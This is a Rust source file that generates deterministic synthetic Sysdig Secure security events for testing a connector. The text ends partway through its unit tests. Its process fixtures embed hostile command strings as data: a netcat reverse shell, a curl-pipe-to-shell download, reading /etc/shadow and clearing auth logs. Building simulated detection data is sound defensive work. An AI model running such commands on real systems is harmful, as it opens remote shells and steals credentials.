//! Deterministic, realistic Sysdig Secure events (legacy `/api/v1/secureEvents`
//! shape), and the example events of the connector's seed document.
//!
//! [`generate`] draws everything from a SplitMix64 stream seeded with `seed`,
//! so the same `(n, seed, from_ns, to_ns)` always gives the same events, on
//! every platform and across versions of this crate's dependencies (no
//! external RNG crate is involved). Events are returned newest first, with
//! timestamps uniformly spread over `[from_ns, to_ns)`.
//!
//! The tenant they describe: four Kubernetes clusters (AWS, GCP, Azure and
//! on-premises), a dozen workloads, runtime detections from Falco-style rules
//! (shells, sensitive reads, metadata-service and outbound connections,
//! privileged containers, package managers, netcat, drift, malware, setuid,
//! log clearing), Kubernetes audit and CloudTrail detections, and a share of
//! `auditTrail` activity events (which the reference connector filters out).
//! Every event has `content.fields`, and every `connect` event an IPv4
//! `fd.name` of the form `a.b.c.d:p->e.f.g.h:q`, so the reference connector
//! can pre-process all of them. Severities are the documented 0–7 scale.

use serde_json::{json, Map, Value};

use crate::time::format_rfc3339_nanos;

/// SplitMix64: tiny, fast and stable; good enough for test data.
#[derive(Debug, Clone)]
pub struct Rng(u64);

impl Rng {
    /// A stream for `seed`.
    pub fn new(seed: u64) -> Self {
        Rng(seed ^ 0x5DEE_CE66_D1CE_4E5B)
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n > 0`).
    pub fn below(&mut self, n: u64) -> u64 {
        // Multiply-shift; the bias is negligible for the sizes used here.
        ((u128::from(self.next_u64()) * u128::from(n)) >> 64) as u64
    }

    /// A uniformly chosen element.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    /// `true` with probability `percent`/100.
    pub fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    fn hex(&mut self, len: usize) -> String {
        let mut s = String::with_capacity(len);
        while s.len() < len {
            s.push_str(&format!("{:016x}", self.next_u64()));
        }
        s.truncate(len);
        s
    }
}

struct Cluster {
    name: &'static str,
    provider: &'static str,
    region: &'static str,
    account: &'static str,
    nodes: &'static [&'static str],
}

const CLUSTERS: &[Cluster] = &[
    Cluster {
        name: "prod-eks-use1",
        provider: "aws",
        region: "us-east-1",
        account: "845120736915",
        nodes: &[
            "ip-10-0-1-23.ec2.internal",
            "ip-10-0-2-117.ec2.internal",
            "ip-10-0-3-41.ec2.internal",
        ],
    },
    Cluster {
        name: "staging-gke-usc1",
        provider: "gcp",
        region: "us-central1",
        account: "acme-staging-3817",
        nodes: &[
            "gke-staging-default-pool-5f2c1a9e-7xq2",
            "gke-staging-default-pool-5f2c1a9e-k3vd",
        ],
    },
    Cluster {
        name: "dev-aks-weu",
        provider: "azure",
        region: "westeurope",
        account: "0b6f2a4e-9c1d-4e7a-8f3b-2d5c6e7f8a91",
        nodes: &[
            "aks-nodepool1-38121755-vmss000000",
            "aks-nodepool1-38121755-vmss000001",
        ],
    },
    Cluster {
        name: "onprem-k8s-dc2",
        provider: "",
        region: "",
        account: "",
        nodes: &[
            "k8s-worker-01.dc2.acme.internal",
            "k8s-worker-02.dc2.acme.internal",
        ],
    },
];

struct Workload {
    name: &'static str,
    kind: &'static str,
    namespace: &'static str,
    repo: &'static str,
    tag: &'static str,
    container: &'static str,
}

const WORKLOADS: &[Workload] = &[
    Workload {
        name: "checkout-api",
        kind: "deployment",
        namespace: "payments",
        repo: "docker.io/acme/checkout-api",
        tag: "1.14.2",
        container: "checkout-api",
    },
    Workload {
        name: "web-frontend",
        kind: "deployment",
        namespace: "web",
        repo: "ghcr.io/acme/web-frontend",
        tag: "2.3.0",
        container: "nginx",
    },
    Workload {
        name: "node-exporter",
        kind: "daemonset",
        namespace: "monitoring",
        repo: "quay.io/prometheus/node-exporter",
        tag: "v1.6.1",
        container: "node-exporter",
    },
    Workload {
        name: "postgres",
        kind: "statefulset",
        namespace: "data",
        repo: "docker.io/library/postgres",
        tag: "15.4",
        container: "postgres",
    },
    Workload {
        name: "coredns",
        kind: "deployment",
        namespace: "kube-system",
        repo: "registry.k8s.io/coredns/coredns",
        tag: "v1.10.1",
        container: "coredns",
    },
    Workload {
        name: "curl-sample-app",
        kind: "deployment",
        namespace: "default",
        repo: "docker.io/radial/busyboxplus",
        tag: "curl",
        container: "curl-sample-app",
    },
    Workload {
        name: "redis",
        kind: "statefulset",
        namespace: "data",
        repo: "docker.io/library/redis",
        tag: "7.2.1",
        container: "redis",
    },
    Workload {
        name: "fluent-bit",
        kind: "daemonset",
        namespace: "monitoring",
        repo: "cr.fluentbit.io/fluent/fluent-bit",
        tag: "2.1.8",
        container: "fluent-bit",
    },
    Workload {
        name: "orders-worker",
        kind: "deployment",
        namespace: "payments",
        repo: "docker.io/acme/orders-worker",
        tag: "0.9.7",
        container: "worker",
    },
    Workload {
        name: "jenkins-agent",
        kind: "deployment",
        namespace: "ci",
        repo: "docker.io/jenkins/inbound-agent",
        tag: "3107.v665000b_51092-15",
        container: "jnlp",
    },
    Workload {
        name: "kafka",
        kind: "statefulset",
        namespace: "data",
        repo: "docker.io/bitnami/kafka",
        tag: "3.5.1",
        container: "kafka",
    },
    Workload {
        name: "admin-portal",
        kind: "deployment",
        namespace: "web",
        repo: "ghcr.io/acme/admin-portal",
        tag: "5.0.3",
        container: "admin-portal",
    },
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Exec,
    File,
    Connect,
    Container,
    Setuid,
    K8sAudit,
    CloudTrail,
    AuditTrail,
}

struct Rule {
    kind: Kind,
    rule: &'static str,
    policy: &'static str,
    description: &'static str,
    rule_type: i64,
    severities: &'static [i64],
    tags: &'static [&'static str],
    weight: u64,
}

const NOTABLE: &str = "Sysdig Runtime Notable Events";
const NOTABLE_DESC: &str = "Rules that flag behaviour worth a look: often benign in development, suspicious in production.";
const THREAT: &str = "Sysdig Runtime Threat Detection";
const THREAT_DESC: &str =
    "Rules that match known attacker techniques against hosts and containers.";

const RULES: &[Rule] = &[
    Rule {
        kind: Kind::Exec,
        rule: "Terminal shell in container",
        policy: NOTABLE,
        description: NOTABLE_DESC,
        rule_type: 6,
        severities: &[4, 5],
        tags: &[
            "container",
            "shell",
            "MITRE",
            "MITRE_T1059_command_and_scripting_interpreter",
            "MITRE_TA0002_execution",
        ],
        weight: 14,
    },
    Rule {
        kind: Kind::File,
        rule: "Read sensitive file untrusted",
        policy: THREAT,
        description: THREAT_DESC,
        rule_type: 6,
        severities: &[2, 3],
        tags: &[
            "filesystem",
            "MITRE",
            "MITRE_T1555_credentials_from_password_stores",
            "MITRE_TA0006_credential_access",
        ],
        weight: 9,
    },
    Rule {
        kind: Kind::Connect,
        rule: "Contact EC2 Instance Metadata Service From Container",
        policy: THREAT,
        description: THREAT_DESC,
        rule_type: 6,
        severities: &[3, 4],
        tags: &[
            "network",
            "aws",
            "container",
            "MITRE",
            "MITRE_T1552.005_unsecured_credentials_cloud_instance_metadata_api",
        ],
        weight: 8,
    },
    Rule {
        kind: Kind::Connect,
        rule: "Outbound Connection to C2 Servers",
        policy: THREAT,
        description: THREAT_DESC,
        rule_type: 6,
        severities: &[0, 1],
        tags: &["network", "MITRE", "MITRE_TA0011_command_and_control"],
        weight: 5,
    },
    Rule {
        kind: Kind::Connect,
        rule: "Unexpected outbound connection destination",
        policy: "Network Activity",
        description: "Connections from workloads to destinations outside their usual set.",
        rule_type: 4,
        severities: &[5, 6],
        tags: &["network", "NIST", "NIST_800-53_SC-7"],
        weight: 7,
    },
    Rule {
        kind: Kind::Container,
        rule: "Launch Privileged Container",
        policy: NOTABLE,
        description: NOTABLE_DESC,
        rule_type: 6,
        severities: &[3],
        tags: &[
            "container",
            "cis",
            "MITRE",
            "MITRE_T1610_deploy_container",
            "MITRE_T1611_escape_to_host",
        ],
        weight: 4,
    },
    Rule {
        kind: Kind::Container,
        rule: "Launch Sensitive Mount Container",
        policy: NOTABLE,
        description: NOTABLE_DESC,
        rule_type: 6,
        severities: &[5],
        tags: &["container", "SOC2", "MITRE", "MITRE_T1611_escape_to_host"],
        weight: 4,
    },
    Rule {
        kind: Kind::File,
        rule: "Write below etc",
        policy: NOTABLE,
        description: NOTABLE_DESC,
        rule_type: 6,
        severities: &[4, 5],
        tags: &[
            "filesystem",
            "MITRE",
            "MITRE_T1098_account_manipulation",
            "MITRE_TA0003_persistence",
        ],
        weight: 6,
    },
    Rule {
        kind: Kind::Exec,
        rule: "Launch Package Management Process in Container",
        policy: NOTABLE,
        description: NOTABLE_DESC,
        rule_type: 6,
        severities: &[6],
        tags: &[
            "container",
            "process",
            "software_mgmt",
            "MITRE",
            "MITRE_TA0003_persistence",
        ],
        weight: 8,
    },
    Rule {
        kind: Kind::Exec,
        rule: "Netcat Remote Code Execution in Container",
        policy: THREAT,
        description: THREAT_DESC,
        rule_type: 6,
        severities: &[0, 1],
        tags: &[
            "container",
            "network",
            "process",
            "MITRE",
            "MITRE_T1059_command_and_scripting_interpreter",
        ],
        weight: 2,
    },
    Rule {
        kind: Kind::Exec,
        rule: "Drift Detection",
        policy: "Container Drift",
        description: "Executables that were not part of the container image when it started.",
        rule_type: 7,
        severities: &[2, 3],
        tags: &["container", "drift"],
        weight: 4,
    },
    Rule {
        kind: Kind::Exec,
        rule: "Malware Detection",
        policy: "Malware",
        description: "Processes whose binary hash matches known malware.",
        rule_type: 8,
        severities: &[0],
        tags: &["malware"],
        weight: 2,
    },
    Rule {
        kind: Kind::Setuid,
        rule: "Non sudo setuid",
        policy: NOTABLE,
        description: NOTABLE_DESC,
        rule_type: 6,
        severities: &[5, 6],
        tags: &[
            "host",
            "users",
            "MITRE",
            "MITRE_T1548.001_setuid_and_setgid",
        ],
        weight: 4,
    },
    Rule {
        kind: Kind::File,
        rule: "Clear Log Activities",
        policy: THREAT,
        description: THREAT_DESC,
        rule_type: 6,
        severities: &[2, 4],
        tags: &["file", "MITRE", "MITRE_T1070_indicator_removal_on_host"],
        weight: 3,
    },
    Rule {
        kind: Kind::K8sAudit,
        rule: "Attach/Exec Pod",
        policy: "Kubernetes Activity",
        description: "Interactive access to running pods through the Kubernetes API.",
        rule_type: 6,
        severities: &[5, 6],
        tags: &[
            "k8s",
            "MITRE",
            "MITRE_T1609_container_administration_command",
        ],
        weight: 5,
    },
    Rule {
        kind: Kind::K8sAudit,
        rule: "Create Privileged Pod",
        policy: "Kubernetes Activity",
        description: "Interactive access to running pods through the Kubernetes API.",
        rule_type: 6,
        severities: &[3],
        tags: &["k8s", "MITRE", "MITRE_T1610_deploy_container"],
        weight: 2,
    },
    Rule {
        kind: Kind::CloudTrail,
        rule: "Console Login Without MFA",
        policy: "AWS Best Practices",
        description: "AWS account activity that departs from recommended practice.",
        rule_type: 6,
        severities: &[3, 4],
        tags: &["aws", "cloud", "MITRE", "MITRE_T1078_valid_accounts"],
        weight: 3,
    },
    Rule {
        kind: Kind::CloudTrail,
        rule: "Delete Bucket Encryption",
        policy: "AWS Best Practices",
        description: "AWS account activity that departs from recommended practice.",
        rule_type: 6,
        severities: &[2],
        tags: &["aws", "cloud", "aws_s3"],
        weight: 2,
    },
    Rule {
        kind: Kind::AuditTrail,
        rule: "Command executed",
        policy: "Activity Audit",
        description: "Commands run in containers and hosts, kept for audit.",
        rule_type: 5,
        severities: &[7],
        tags: &["audit"],
        weight: 8,
    },
];

fn pick_rule(rng: &mut Rng) -> &'static Rule {
    let total: u64 = RULES.iter().map(|r| r.weight).sum();
    let mut x = rng.below(total);
    for r in RULES {
        if x < r.weight {
            return r;
        }
        x -= r.weight;
    }
    &RULES[0]
}

fn public_ip(rng: &mut Rng) -> String {
    // Documentation ranges (RFC 5737) only.
    let prefix = *rng.pick(&["192.0.2", "198.51.100", "203.0.113"]);
    format!("{prefix}.{}", 1 + rng.below(254))
}

fn pod_ip(rng: &mut Rng) -> String {
    format!(
        "10.{}.{}.{}",
        1 + rng.below(3),
        rng.below(256),
        2 + rng.below(250)
    )
}

fn mac(rng: &mut Rng) -> String {
    let h = rng.hex(12);
    (0..6)
        .map(|i| &h[2 * i..2 * i + 2])
        .collect::<Vec<_>>()
        .join(":")
}

/// What a process looked like: name, cmdline, exepath, parent name and cmdline, ancestors.
struct Proc {
    name: String,
    cmdline: String,
    exepath: String,
    pname: String,
    pcmdline: String,
    anames: Vec<&'static str>,
}

fn process_for(rule: &Rule, rng: &mut Rng) -> Proc {
    let shell = |name: &str, cmd: &str, exe: &str, pname: &str, pcmd: &str| Proc {
        name: name.to_owned(),
        cmdline: cmd.to_owned(),
        exepath: exe.to_owned(),
        pname: pname.to_owned(),
        pcmdline: pcmd.to_owned(),
        anames: vec!["containerd-shim", "systemd"],
    };
    match rule.rule {
        "Terminal shell in container" => {
            let (n, exe) = *rng.pick(&[
                ("bash", "/bin/bash"),
                ("sh", "/bin/sh"),
                ("zsh", "/usr/bin/zsh"),
            ]);
            shell(n, &format!("{n} -il"), exe, "runc", "runc init")
        }
        "Launch Package Management Process in Container" => {
            let (n, cmd, exe) = *rng.pick(&[
                ("apt-get", "apt-get install -y curl", "/usr/bin/apt-get"),
                ("apk", "apk add --no-cache netcat-openbsd", "/sbin/apk"),
                ("pip", "pip install requests", "/usr/local/bin/pip"),
                ("yum", "yum install -y nmap", "/usr/bin/yum"),
            ]);
            shell(n, cmd, exe, "bash", "bash -il")
        }
        "Netcat Remote Code Execution in Container" => {
            let ip = public_ip(rng);
            shell(
                "nc",
                &format!("nc -e /bin/sh {ip} 4444"),
                "/usr/bin/nc",
                "sh",
                "sh -c curl -s http://x/i.sh | sh",
            )
        }
        "Drift Detection" => {
            let n = *rng.pick(&["xmrig", "kdevtmpfsi", "dropper", "tsunami"]);
            shell(
                n,
                &format!("/tmp/{n} --background"),
                &format!("/tmp/{n}"),
                "sh",
                "sh -c /tmp/run.sh",
            )
        }
        "Malware Detection" => {
            let n = *rng.pick(&["kinsing", "xmrig", "mirai.x86"]);
            shell(
                n,
                &format!("./{n}"),
                &format!("/dev/shm/{n}"),
                "bash",
                "bash",
            )
        }
        _ => match rule.kind {
            Kind::File => {
                let (n, cmd, exe) = *rng.pick(&[
                    ("cat", "cat /etc/shadow", "/bin/cat"),
                    ("python3", "python3 /app/backup.py", "/usr/bin/python3"),
                    ("vi", "vi /etc/hosts", "/usr/bin/vi"),
                    ("sh", "sh -c echo > /var/log/auth.log", "/bin/sh"),
                ]);
                shell(n, cmd, exe, "bash", "bash -il")
            }
            Kind::Connect => {
                let (n, exe) = *rng.pick(&[
                    ("curl", "/usr/bin/curl"),
                    ("wget", "/usr/bin/wget"),
                    ("python3", "/usr/bin/python3"),
                    ("java", "/opt/java/openjdk/bin/java"),
                ]);
                shell(
                    n,
                    &format!("{n} -s http://upstream/health"),
                    exe,
                    "sh",
                    "sh",
                )
            }
            Kind::Setuid => shell("su", "su - postgres", "/bin/su", "bash", "bash"),
            Kind::AuditTrail => {
                let (n, cmd, exe) = *rng.pick(&[
                    ("ls", "ls -la /app", "/bin/ls"),
                    ("ps", "ps aux", "/bin/ps"),
                    ("env", "env", "/usr/bin/env"),
                    ("kubectl", "kubectl get pods -A", "/usr/local/bin/kubectl"),
                ]);
                shell(n, cmd, exe, "bash", "bash")
            }
            _ => shell("bash", "bash", "/bin/bash", "runc", "runc init"),
        },
    }
}

fn put(map: &mut Map<String, Value>, k: &str, v: impl Into<Value>) {
    map.insert(k.to_owned(), v.into());
}

/// Generates `n` events with timestamps in `[from_ns, to_ns)`, newest first.
/// Deterministic in all four arguments. With `to_ns <= from_ns` every event
/// gets the timestamp `from_ns`.
///
/// ```
/// use stixshift_simulator::generate::generate;
/// let a = generate(50, 7, 0, 3_600_000_000_000);
/// assert_eq!(a, generate(50, 7, 0, 3_600_000_000_000));
/// assert_eq!(a.len(), 50);
/// ```
pub fn generate(n: usize, seed: u64, from_ns: i64, to_ns: i64) -> Vec<Value> {
    let mut rng = Rng::new(seed);
    let span = to_ns.saturating_sub(from_ns).max(0) as u64;
    let mut stamps: Vec<i64> = (0..n)
        .map(|_| {
            if span == 0 {
                from_ns
            } else {
                from_ns + rng.below(span) as i64
            }
        })
        .collect();
    stamps.sort_unstable_by(|a, b| b.cmp(a));
    // Per-node identity is fixed per seed: agent ids and MACs.
    let node_ids: Vec<(i64, String)> = CLUSTERS
        .iter()
        .flat_map(|c| c.nodes.iter())
        .map(|_| (100_000 + rng.below(900_000) as i64, mac(&mut rng)))
        .collect();
    stamps
        .into_iter()
        .map(|ts| event(&mut rng, ts, &node_ids))
        .collect()
}

fn event(rng: &mut Rng, ts: i64, node_ids: &[(i64, String)]) -> Value {
    let rule = pick_rule(rng);
    let ci = rng.below(CLUSTERS.len() as u64) as usize;
    let cluster = &CLUSTERS[ci];
    let ni = rng.below(cluster.nodes.len() as u64) as usize;
    let node = cluster.nodes[ni];
    let node_index: usize = CLUSTERS[..ci].iter().map(|c| c.nodes.len()).sum::<usize>() + ni;
    let (agent_id, host_mac) = &node_ids[node_index];
    let w = rng.pick(WORKLOADS);
    let container_id = rng.hex(12);
    let pod_suffix = format!("{}-{}", &rng.hex(10), &rng.hex(5));
    let pod = if w.kind == "statefulset" {
        format!("{}-{}", w.name, rng.below(3))
    } else {
        format!("{}-{pod_suffix}", w.name)
    };
    let severity = *rng.pick(rule.severities);
    let (source, category, originator) = match rule.kind {
        Kind::K8sAudit => ("k8s_audit", "runtime", "policy"),
        Kind::CloudTrail => ("aws_cloudtrail", "cloudtrail", "cloudsec"),
        Kind::AuditTrail => ("auditTrail", "runtime", "policy"),
        _ => ("syscall", "runtime", "policy"),
    };
    let has_container = !matches!(rule.kind, Kind::CloudTrail | Kind::K8sAudit);

    let mut fields = Map::new();
    let proc_ = process_for(rule, rng);
    let pid = 1000 + rng.below(60_000);
    let ppid = 1 + rng.below(pid);
    let (user, uid) = *rng.pick(&[
        ("root", "0"),
        ("root", "0"),
        ("www-data", "33"),
        ("postgres", "999"),
        ("app", "1000"),
    ]);
    let evt_type: Option<&str> = match rule.kind {
        Kind::Exec | Kind::AuditTrail => Some("execve"),
        Kind::File => Some(*rng.pick(&["openat", "open"])),
        Kind::Connect => Some("connect"),
        Kind::Container => Some("container"),
        Kind::Setuid => Some("setuid"),
        _ => None,
    };
    match rule.kind {
        Kind::K8sAudit => {
            let who = *rng.pick(&[
                "alice@acme.example",
                "bob@acme.example",
                "system:serviceaccount:ci:deployer",
                "kubernetes-admin",
            ]);
            put(&mut fields, "ka.auth.decision", "allow");
            put(&mut fields, "ka.target.name", pod.clone());
            put(&mut fields, "ka.target.namespace", w.namespace);
            put(&mut fields, "ka.target.resource", "pods");
            put(
                &mut fields,
                "ka.target.subresource",
                if rule.rule.starts_with("Attach") {
                    "exec"
                } else {
                    "<NA>"
                },
            );
            put(&mut fields, "ka.user.name", who);
            put(&mut fields, "ka.verb", "create");
        }
        Kind::CloudTrail => {
            let who = *rng.pick(&[
                "arn:aws:iam::845120736915:user/alice",
                "arn:aws:iam::845120736915:user/ci-bot",
                "arn:aws:sts::845120736915:assumed-role/Admin/bob",
            ]);
            let name = if rule.rule.starts_with("Console") {
                "ConsoleLogin"
            } else {
                "DeleteBucketEncryption"
            };
            put(&mut fields, "ct.name", name);
            put(&mut fields, "ct.region", "us-east-1");
            put(&mut fields, "ct.srcip", public_ip(rng));
            put(&mut fields, "ct.user", who);
            put(&mut fields, "ct.user.accountid", "845120736915");
        }
        _ => {
            if has_container {
                put(&mut fields, "container.id", container_id.clone());
                put(&mut fields, "container.image.repository", w.repo);
                put(&mut fields, "container.image.tag", w.tag);
                put(&mut fields, "container.name", w.container);
            }
            let res = match rule.kind {
                Kind::Connect => "EINPROGRESS",
                Kind::Container => "<NA>",
                _ => *rng.pick(&["SUCCESS", "SUCCESS", "<NA>"]),
            };
            put(&mut fields, "evt.res", res);
            put(&mut fields, "evt.type", evt_type.unwrap_or("execve"));
            put(&mut fields, "falco.rule", rule.rule);
            match rule.kind {
                Kind::Connect => {
                    let src = pod_ip(rng);
                    let (dst, port) = match rule.rule {
                        r if r.starts_with("Contact EC2") => ("169.254.169.254".to_owned(), 80),
                        r if r.starts_with("Outbound Connection to C2") => {
                            (public_ip(rng), *rng.pick(&[443u64, 4444, 8080]))
                        }
                        _ => (
                            if rng.chance(50) {
                                public_ip(rng)
                            } else {
                                pod_ip(rng)
                            },
                            *rng.pick(&[443u64, 5432, 6379, 9092, 53]),
                        ),
                    };
                    let sport = 32768 + rng.below(28_000);
                    put(
                        &mut fields,
                        "fd.l4proto",
                        if port == 53 { "udp" } else { "tcp" },
                    );
                    put(
                        &mut fields,
                        "fd.name",
                        format!("{src}:{sport}->{dst}:{port}"),
                    );
                }
                Kind::File => {
                    let path = match rule.rule {
                        "Read sensitive file untrusted" => *rng.pick(&[
                            "/etc/shadow",
                            "/etc/sudoers",
                            "/root/.ssh/id_rsa",
                            "/etc/pam.d/common-auth",
                        ]),
                        "Clear Log Activities" => *rng.pick(&[
                            "/var/log/auth.log",
                            "/var/log/syslog",
                            "/var/log/nginx/access.log",
                        ]),
                        _ => *rng.pick(&[
                            "/etc/hosts",
                            "/etc/passwd",
                            "/etc/cron.d/backdoor",
                            "/etc/ld.so.preload",
                        ]),
                    };
                    put(&mut fields, "fd.name", path);
                }
                Kind::Container => {
                    put(
                        &mut fields,
                        "container.mounts",
                        "/proc:/host/proc::false:private,/:/host/root::false:rslave",
                    );
                    put(
                        &mut fields,
                        "container.privileged",
                        if rule.rule.contains("Privileged") {
                            "true"
                        } else {
                            "false"
                        },
                    );
                }
                _ => {}
            }
            put(
                &mut fields,
                "group.gid",
                if user == "root" { "0" } else { uid },
            );
            put(
                &mut fields,
                "group.name",
                if user == "root" { "root" } else { user },
            );
            if rule.kind != Kind::Container {
                for (i, a) in proc_.anames.iter().enumerate() {
                    put(&mut fields, &format!("proc.aname[{}]", i + 2), *a);
                }
                put(
                    &mut fields,
                    &format!("proc.aname[{}]", proc_.anames.len() + 2),
                    "<NA>",
                );
            }
            if rule.kind == Kind::Container {
                let name = format!("container:{container_id}");
                put(&mut fields, "proc.cmdline", name.clone());
                put(&mut fields, "proc.cwd", "");
                put(&mut fields, "proc.exepath", "");
                put(&mut fields, "proc.name", name);
                put(&mut fields, "proc.pcmdline", "<NA>");
                put(&mut fields, "proc.pid", "-1");
                put(&mut fields, "proc.pname", "<NA>");
                put(&mut fields, "proc.ppid", "-1");
                put(&mut fields, "proc.sid", "-1");
            } else {
                put(&mut fields, "proc.cmdline", proc_.cmdline);
                put(
                    &mut fields,
                    "proc.cwd",
                    *rng.pick(&["/", "/app/", "/root/", "/tmp/"]),
                );
                put(&mut fields, "proc.exepath", proc_.exepath);
                if rule.rule == "Malware Detection" {
                    put(&mut fields, "proc.hash.sha256", rng.hex(64));
                }
                put(&mut fields, "proc.name", proc_.name);
                put(&mut fields, "proc.pcmdline", proc_.pcmdline);
                put(&mut fields, "proc.pid", pid.to_string());
                put(&mut fields, "proc.pname", proc_.pname);
                put(&mut fields, "proc.ppid", ppid.to_string());
                put(&mut fields, "proc.sid", (1 + rng.below(pid)).to_string());
            }
            put(
                &mut fields,
                "user.loginname",
                if rng.chance(70) { "<NA>" } else { user },
            );
            put(
                &mut fields,
                "user.loginuid",
                if rng.chance(70) { "-1" } else { uid },
            );
            put(&mut fields, "user.name", user);
            put(&mut fields, "user.uid", uid);
        }
    }

    let output = match rule.kind {
        Kind::K8sAudit => format!(
            "{} (user={} pod={} ns={})",
            rule.rule,
            fields["ka.user.name"].as_str().unwrap_or(""),
            pod,
            w.namespace
        ),
        Kind::CloudTrail => format!(
            "{} (user={} source ip={})",
            rule.rule,
            fields["ct.user"].as_str().unwrap_or(""),
            fields["ct.srcip"].as_str().unwrap_or("")
        ),
        _ => format!(
            "{} (user.name={} proc.cmdline={} container.id={} container.name={} image={}:{} evt.type={}{})",
            rule.rule,
            user,
            fields["proc.cmdline"].as_str().unwrap_or(""),
            container_id,
            w.container,
            w.repo,
            w.tag,
            evt_type.unwrap_or("execve"),
            fields
                .get("fd.name")
                .and_then(Value::as_str)
                .map(|f| format!(" fd.name={f}"))
                .unwrap_or_default()
        ),
    };

    let mut labels = Map::new();
    if !cluster.provider.is_empty() {
        match cluster.provider {
            "aws" => {
                put(&mut labels, "aws.accountId", cluster.account);
                put(&mut labels, "aws.instanceId", format!("i-0{}", rng.hex(16)));
                put(&mut labels, "aws.region", cluster.region);
            }
            "gcp" => {
                put(&mut labels, "gcp.projectId", cluster.account);
                put(&mut labels, "gcp.location", cluster.region);
            }
            _ => {
                put(&mut labels, "azure.subscriptionId", cluster.account);
                put(&mut labels, "azure.location", cluster.region);
            }
        }
        put(&mut labels, "cloudProvider.account.id", cluster.account);
        put(&mut labels, "cloudProvider.name", cluster.provider);
        put(&mut labels, "cloudProvider.region", cluster.region);
    }
    if has_container || rule.kind == Kind::K8sAudit {
        if has_container {
            put(
                &mut labels,
                "container.image.digest",
                format!("sha256:{}", rng.hex(64)),
            );
            put(&mut labels, "container.image.id", rng.hex(12));
            put(&mut labels, "container.image.repo", w.repo);
            put(&mut labels, "container.image.tag", w.tag);
            put(
                &mut labels,
                "container.label.io.kubernetes.container.name",
                w.container,
            );
            put(
                &mut labels,
                "container.label.io.kubernetes.pod.name",
                pod.clone(),
            );
            put(
                &mut labels,
                "container.label.io.kubernetes.pod.namespace",
                w.namespace,
            );
            put(&mut labels, "container.name", w.container);
            put(&mut labels, "host.hostName", node);
            put(&mut labels, "host.mac", host_mac.clone());
        }
        put(&mut labels, "kubernetes.cluster.name", cluster.name);
        let kind_key = match w.kind {
            "daemonset" => "kubernetes.daemonSet.name",
            "statefulset" => "kubernetes.statefulSet.name",
            _ => "kubernetes.deployment.name",
        };
        put(&mut labels, kind_key, w.name);
        put(&mut labels, "kubernetes.namespace.name", w.namespace);
        if has_container {
            put(&mut labels, "kubernetes.node.name", node);
        }
        put(&mut labels, "kubernetes.pod.name", pod.clone());
        put(&mut labels, "kubernetes.workload.name", w.name);
        put(&mut labels, "kubernetes.workload.type", w.kind);
    }

    let policy_id = 10_000_000
        + (RULES
            .iter()
            .position(|r| std::ptr::eq(r, rule))
            .unwrap_or(0) as i64)
            * 1_117;
    let mut content = Map::new();
    put(&mut content, "falsePositive", false);
    put(&mut content, "fields", Value::Object(fields));
    put(&mut content, "internalRuleName", rule.rule);
    put(&mut content, "matchedOnDefault", rng.chance(10));
    put(
        &mut content,
        "origin",
        if rule.policy.starts_with("Sysdig") {
            "Sysdig"
        } else {
            "Secure UI"
        },
    );
    put(&mut content, "output", output);
    put(&mut content, "policyId", policy_id);
    put(&mut content, "ruleName", rule.rule);
    let sub_type = match rule.kind {
        Kind::Connect => 2,
        Kind::File => 4,
        _ => 0,
    };
    put(&mut content, "ruleSubType", sub_type);
    put(&mut content, "ruleTags", json!(rule.tags));
    put(&mut content, "ruleType", rule.rule_type);

    let mut ev = Map::new();
    put(&mut ev, "id", rng.hex(32));
    put(&mut ev, "timestamp", format_rfc3339_nanos(ts));
    put(&mut ev, "customerId", 41_500);
    put(&mut ev, "originator", originator);
    put(&mut ev, "category", category);
    put(&mut ev, "source", source);
    put(&mut ev, "name", rule.policy);
    put(&mut ev, "description", rule.description);
    put(&mut ev, "severity", severity);
    put(
        &mut ev,
        "agentId",
        if rule.kind == Kind::CloudTrail {
            0
        } else {
            *agent_id
        },
    );
    put(
        &mut ev,
        "containerId",
        if has_container {
            container_id
        } else {
            String::new()
        },
    );
    put(
        &mut ev,
        "machineId",
        if rule.kind == Kind::CloudTrail {
            String::new()
        } else {
            host_mac.clone()
        },
    );
    put(&mut ev, "content", Value::Object(content));
    put(&mut ev, "labels", Value::Object(labels));
    Value::Object(ev)
}

const SEED_EXAMPLES: &str = include_str!("../data/seed_examples.json");

/// The example events of the connector's seed document (the sysdig
/// connector README) and of `examples.md` R1/R2, as the API would return them:
/// without the fields the connector adds while pre-processing (`finding_type`,
/// `proc.anames`, `clientIpv4`, …), and the
/// README's illustrative severities (30, 60, 70) replaced by values on the
/// documented 0–7 scale (the R1/R2 values where they exist). Their ids are
/// made unique (the README uses `12345678910` for all); their timestamps are
/// kept (2023-10 and 2023-11).
pub fn seed_examples() -> Vec<Value> {
    match serde_json::from_str(SEED_EXAMPLES) {
        Ok(Value::Array(events)) => events,
        _ => Vec::new(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::parse_rfc3339_nanos;

    #[test]
    fn deterministic_sorted_and_in_range() {
        let from = 1_700_000_000_000_000_000;
        let to = from + 86_400_000_000_000;
        let a = generate(500, 42, from, to);
        assert_eq!(a, generate(500, 42, from, to));
        assert_ne!(a, generate(500, 43, from, to));
        let stamps: Vec<i64> = a
            .iter()
            .map(|e| parse_rfc3339_nanos(e["timestamp"].as_str().unwrap()).unwrap())
            .collect();
        assert!(stamps.windows(2).all(|w| w[0] >= w[1]));
        assert!(stamps.iter().all(|t| (from..to).contains(t)));
        assert_eq!(generate(0, 1, from, to), Vec::<Value>::new());
        assert!(generate(3, 1, from, from)
            .iter()
            .all(|e| e["timestamp"] == format_rfc3339_nanos(from)));
    }

    #[test]
    fn varied_and_preprocessable() {
        let evs = generate(2000, 9, 0, 1_000_000_000_000);
        let mut rules = std::collections::BTreeSet::new();
        let mut sources = std::collections::BTreeSet::new();
        for e in &evs {
            assert_eq!(e["id"].as_str().unwrap().len(), 32);
            let sev = e["severity"].as_i64().unwrap();
            assert!((0..=7).contains(&sev));
            let fields = e["content"]["fields"].as_object().unwrap();
